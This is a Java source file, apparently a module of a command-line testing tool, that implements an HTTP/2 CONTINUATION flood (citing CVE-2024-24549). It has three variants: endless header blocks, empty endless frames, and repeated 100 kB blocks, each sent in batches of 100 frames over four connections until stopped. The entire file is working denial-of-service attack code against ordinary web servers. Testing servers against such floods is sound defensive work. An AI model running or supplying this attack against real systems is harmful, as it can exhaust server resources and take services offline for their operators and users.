package dev.coatcheck.cli.hostile.attack;

import dev.coatcheck.cli.hostile.wire.Frames;
import dev.coatcheck.cli.hostile.wire.Hpack;
import dev.coatcheck.cli.hostile.wire.Http2Connection;
import java.io.IOException;
import java.util.Set;

/** Header blocks of any number of CONTINUATION frames (CVE-2024-24549 and its kin). */
final class ContinuationFlood implements Attack {

  private static final int CONNECTIONS = 4;
  private static final int FRAMES_AT_ONCE = 100;
  private static final int FIELD_BYTES = 1000;

  private final String name;
  private final byte[] piece;
  private final boolean ends;

  private ContinuationFlood(String name, byte[] piece, boolean ends) {
    this.name = name;
    this.piece = piece;
    this.ends = ends;
  }

  /** A block that has no end. */
  static ContinuationFlood endless() {
    return new ContinuationFlood("CONTINUATION without end", field(), false);
  }

  /** The same, of frames with nothing in them. */
  static ContinuationFlood empty() {
    return new ContinuationFlood("empty CONTINUATION without end", new byte[0], false);
  }

  /** Blocks of 100 kB, each with an end. */
  static ContinuationFlood ended() {
    return new ContinuationFlood("CONTINUATION with end", field(), true);
  }

  private static byte[] field() {
    return new Hpack().field("x", "x".repeat(FIELD_BYTES)).toBytes();
  }

  @Override
  public String name() {
    return name;
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.values());
  }

  @Override
  public void strike(Attacker attacker) throws InterruptedException {
    attacker.repeat(CONNECTIONS, () -> flood(attacker));
  }

  private void flood(Attacker attacker) throws IOException {
    byte[] head = attacker.door().cheapRequest().toBytes();
    Http2Connection connection = attacker.http2();
    int stream = connection.nextStream();
    connection.send(new Frames().headers(stream, head, Frames.END_STREAM));
    while (!attacker.isOver()) {
      Frames frames = new Frames();
      for (int i = 0; i < FRAMES_AT_ONCE; i++) {
        frames.continuation(stream, piece, 0);
      }
      if (ends) {
        frames.continuation(stream, new byte[0], Frames.END_HEADERS);
        stream = connection.nextStream();
        frames.headers(stream, head, Frames.END_STREAM);
      }
      connection.send(frames);
    }
  }
}
